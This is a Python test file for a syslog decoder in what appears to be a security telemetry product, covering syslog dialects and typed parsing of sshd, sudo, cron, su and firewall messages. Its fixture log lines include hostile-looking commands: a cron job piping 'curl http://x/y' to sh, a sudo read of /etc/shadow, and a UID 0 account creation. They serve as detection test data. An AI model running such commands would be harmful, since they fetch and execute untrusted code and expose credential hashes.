"""Syslog in its dialects, and what well-known programs say in it."""

import json
from datetime import UTC, datetime

import pytest

from appliance.telemetry.decoding.registry import decoder
from appliance.telemetry.events import Bounds, Event

RECEIVED = "2026-11-23T12:00:00Z"


def one(line: str | bytes, **options: str) -> Event:
    body = line.encode() if isinstance(line, str) else line
    decoded = decoder("syslog")(body, Bounds(), {"received": RECEIVED, **options})
    assert decoded.malformed == []
    assert len(decoded.events) == 1
    return decoded.events[0]


def at(text: str) -> int:
    return int(datetime.fromisoformat(text).replace(tzinfo=UTC).timestamp()) * 1_000_000


def test_rfc_5424_with_structured_data():
    event = one(
        "<165>1 2026-10-11T22:14:15.003Z Web1.example evntslog 8710 ID47 "
        '[exampleSDID@32473 iut="3" eventSource="App \\"x\\" \\]"] \ufeffAn application event'
    )

    assert event.host == "web1.example"
    assert event.time == at("2026-10-11T22:14:15") + 3000
    assert event.fields["exampleSDID@32473.eventSource"] == 'App "x" ]'
    assert event.fields["message"] == "An application event"
    assert (event.fields["facility"], event.fields["severity"]) == ("local4", "notice")
    assert (event.fields["program"], event.fields["pid"], event.fields["msgid"]) == (
        "evntslog",
        "8710",
        "ID47",
    )


def test_rfc_5424_with_every_field_missing():
    event = one("<0>1 - - - - - -", peer="192.0.2.9")

    assert (event.host, event.time) == ("192.0.2.9", 0)
    assert event.fields["message"] == ""


def test_rfc_3164():
    event = one("<34>Oct 11 22:14:15 mymachine su[77]: 'su root' failed for lonvick on /dev/pts/8")

    assert (event.host, event.time) == ("mymachine", at("2026-10-11T22:14:15"))
    assert (event.fields["program"], event.fields["pid"]) == ("su", "77")
    assert (event.kind, event.channel) == ("linux.su", "")


@pytest.mark.parametrize(
    ("stamp", "received", "expected"),
    [
        ("Dec 31 23:59:59", "2027-01-01T00:00:05Z", "2026-12-31T23:59:59"),
        ("Nov 24 11:00:00", RECEIVED, "2026-11-24T11:00:00"),
        ("Nov 30 11:00:00", RECEIVED, "2025-11-30T11:00:00"),
        ("Feb 29 00:00:01", RECEIVED, "2024-02-29T00:00:01"),
        ("Jan  1 00:00:00", "2025-12-31T23:59:00Z", "2026-01-01T00:00:00"),
    ],
)
def test_the_year_is_the_one_nearest_before_receipt(stamp, received, expected):
    assert one(f"<13>{stamp} h p: m", received=received).time == at(expected)


def test_a_time_that_is_none_reads_as_unknown():
    assert one("<13>Feb 31 25:61:99 h p: m").time == 0


def test_without_receipt_a_time_without_a_year_is_unknown():
    decoded = decoder("syslog")(b"<13>Oct 11 22:14:15 h p: m", Bounds(), {})

    assert decoded.events[0].time == 0


@pytest.mark.parametrize("zone", ["Europe/Berlin", "+01:00"])
def test_times_without_an_offset_are_in_the_sources_zone(zone):
    assert one("<13>Nov 11 22:14:15 h p: m", timezone=zone).time == at("2026-11-11T21:14:15")


def test_an_unknown_zone_counts_as_utc():
    assert one("<13>Nov 11 22:14:15 h p: m", timezone="Nowhere/At_All").time == at("2026-11-11T22:14:15")


@pytest.mark.parametrize(
    "line",
    [
        "<13>2026-10-11T22:14:15+00:00 host prog[5]: text",
        "2026-10-11T22:14:15.000000+00:00 host prog[5]: text",
        "<13>Oct 11 2026 22:14:15 host prog[5]: text",
        "Oct 11 22:14:15 host prog[5]: text",
        "<13>Oct 11 22:14:15.123 host prog[5]: text",
    ],
)
def test_dialects_of_rfc_3164_agree(line):
    event = one(line)

    assert event.time // 1_000_000 == at("2026-10-11T22:14:15") // 1_000_000
    assert (event.host, event.fields["program"], event.fields["message"]) == ("host", "prog", "text")


def test_a_message_without_a_host_takes_the_peer():
    event = one("<13>Oct 11 22:14:15 prog[1]: text", peer="2001:db8::1")

    assert (event.host, event.fields["program"]) == ("2001:db8::1", "prog")


def test_cisco_sequence_numbers_and_uncertain_clocks_are_read():
    event = one("<189>29: *Mar  1 18:46:11.123 UTC: %SYS-5-CONFIG_I: Configured from console by vty2")

    assert event.time // 1_000_000 == at("2026-03-01T18:46:11") // 1_000_000
    assert event.kind == "cisco.aaa"
    assert event.fields["program"] == "%SYS-5-CONFIG_I"
    assert event.fields["message"] == "Configured from console by vty2"


def test_any_text_at_all_is_a_message():
    event = one("no header whatever", peer="p")

    assert (event.kind, event.fields["message"], event.host) == ("linux.syslog", "no header whatever", "p")


@pytest.mark.parametrize(
    ("message", "expected"),
    [
        (
            "Accepted publickey for root from 2001:db8::7 port 60001 ssh2: RSA SHA256:x",
            {
                "action": "accepted",
                "auth_method": "publickey",
                "user": "root",
                "src_ip": "2001:db8::7",
                "src_port": 60001,
            },
        ),
        (
            "Failed password for invalid user ad min from 192.0.2.1 port 4000 ssh2",
            {"action": "failed", "user": "ad min", "src_ip": "192.0.2.1", "user_is_known": "false"},
        ),
        (
            "Failed password for invalid user x from 10.0.0.1 port 1 from 192.0.2.1 port 4000 ssh2",
            {"user": "x from 10.0.0.1 port 1", "src_ip": "192.0.2.1", "src_port": 4000},
        ),
        ("Invalid user  from 192.0.2.1 port 5", {"action": "invalid_user", "src_ip": "192.0.2.1"}),
        (
            "Connection closed by authenticating user root 192.0.2.1 port 33 [preauth]",
            {"action": "closed", "user": "root", "src_ip": "192.0.2.1", "src_port": 33},
        ),
        (
            "Received disconnect from 192.0.2.1: 11: Bye Bye [preauth]",
            {"action": "disconnected", "src_ip": "192.0.2.1"},
        ),
        (
            "message repeated 5 times: [ Failed password for root from 192.0.2.1 port 4 ssh2]",
            {"repeated": 5, "action": "failed", "user": "root", "src_ip": "192.0.2.1"},
        ),
        (
            "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=192.0.2.1  user=root",
            {"action": "failed", "src_ip": "192.0.2.1", "user": "root"},
        ),
        (
            "pam_unix(sshd:session): session opened for user fztu by (uid=0)",
            {"action": "session_opened", "user": "fztu"},
        ),
        (
            "error: maximum authentication attempts exceeded for invalid user a from 192.0.2.1 port 9 ssh2 [preauth]",
            {"action": "max_attempts", "user": "a", "src_ip": "192.0.2.1"},
        ),
    ],
)
def test_sshd_messages_are_typed(message, expected):
    event = one(f"<86>Oct 11 22:14:15 h sshd[1]: {message}")

    assert event.kind == "linux.sshd"
    assert {name: event.fields.get(name) for name in expected} == expected


def test_sudo_names_who_ran_what_as_whom():
    event = one(
        "<86>Oct 11 22:14:15 h sudo:  alice : TTY=pts/0 ; PWD=/home/a ; USER=root ; COMMAND=/bin/cat /etc/shadow"
    )

    assert event.kind == "linux.sudo"
    assert event.fields["user"] == "alice"
    assert event.fields["USER"] == event.fields["User"] == "root"
    assert event.fields["CommandLine"] == "/bin/cat /etc/shadow"
    assert event.fields["Image"] == "/bin/cat"
    assert event.fields["action"] == "accepted"


def test_a_refused_sudo_keeps_its_reason():
    event = one(
        "Oct 11 22:14:15 h sudo: bob : user NOT in sudoers ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh"
    )

    assert (event.fields["action"], event.fields["reason"]) == ("failed", "user NOT in sudoers")


def test_cron_names_the_command():
    event = one("<78>Oct 11 22:14:15 h CRON[99]: (root) CMD (curl http://x/y | sh)")

    assert event.kind == "linux.cron"
    assert event.fields["CommandLine"] == "curl http://x/y | sh"
    assert event.fields["Image"] == ("/curl", "/sh")


@pytest.mark.parametrize(
    ("message", "user", "target"),
    [
        ("FAILED SU (to root) eve on pts/1", "eve", "root"),
        ("(to root) eve on pts/1", "eve", "root"),
        ("Successful su for root by eve", "eve", "root"),
    ],
)
def test_su_names_both_accounts(message, user, target):
    event = one(f"Oct 11 22:14:15 h su[1]: {message}")

    assert (event.fields["user"], event.fields["target_user"]) == (user, target)


def test_a_new_account_is_named():
    event = one("Oct 11 22:14:15 h useradd[1]: new user: name=eve, UID=0, GID=0, home=/root, shell=/bin/bash")

    assert (event.fields["action"], event.fields["target_user"], event.fields["UID"]) == (
        "new_user",
        "eve",
        "0",
    )


def test_the_kernels_firewall_lines_are_typed():
    event = one(
        "<4>Oct 11 22:14:15 h kernel: [12.5] [UFW BLOCK] IN=eth0 OUT= MAC=aa SRC=192.0.2.1 DST=192.0.2.2 "
        "LEN=40 PROTO=TCP SPT=4444 DPT=22 SYN"
    )

    assert (event.fields["src_ip"], event.fields["DestinationIp"]) == ("192.0.2.1", "192.0.2.2")
    assert (event.fields["dst_port"], event.fields["action"]) == (22, "blocked")


def test_json_in_syslog_is_decoded_as_what_it_is():
    event = one(
        '<13>Oct 11 22:14:15 sensor suricata[1]: @cee: {"event_type":"alert","flow_id":1,'
        '"src_ip":"192.0.2.1","alert":{"signature":"S"}}'
    )

    assert (event.kind, event.host) == ("suricata.alert", "sensor")
    assert event.fields["signature"] == "S"
    assert event.time == at("2026-10-11T22:14:15")


def test_json_that_is_none_stays_text():
    assert one('<13>Oct 11 22:14:15 h p: {"broken').fields["message"] == '{"broken'


def test_messages_nested_without_end_are_not_followed():
    text = "innermost"
    for _ in range(9):
        text = json.dumps({"@timestamp": "2026-01-01T00:00:00Z", "message": text})

    event = one("<13>Oct 11 22:14:15 h p: " + text)

    assert "innermost" in str(event.fields["message"])
    assert event.fields["message"] != "innermost"


def test_frames_keep_newlines_inside_a_message():
    body = b"9 <13>a: b\n9 <13>c: de"

    decoded = decoder("syslog.frames")(body, Bounds(), {})

    assert [body[event.start : event.end] for event in decoded.events] == [b"<13>a: b\n", b"<13>c: de"]
    assert decoded.events[0].fields["message"] == "b"
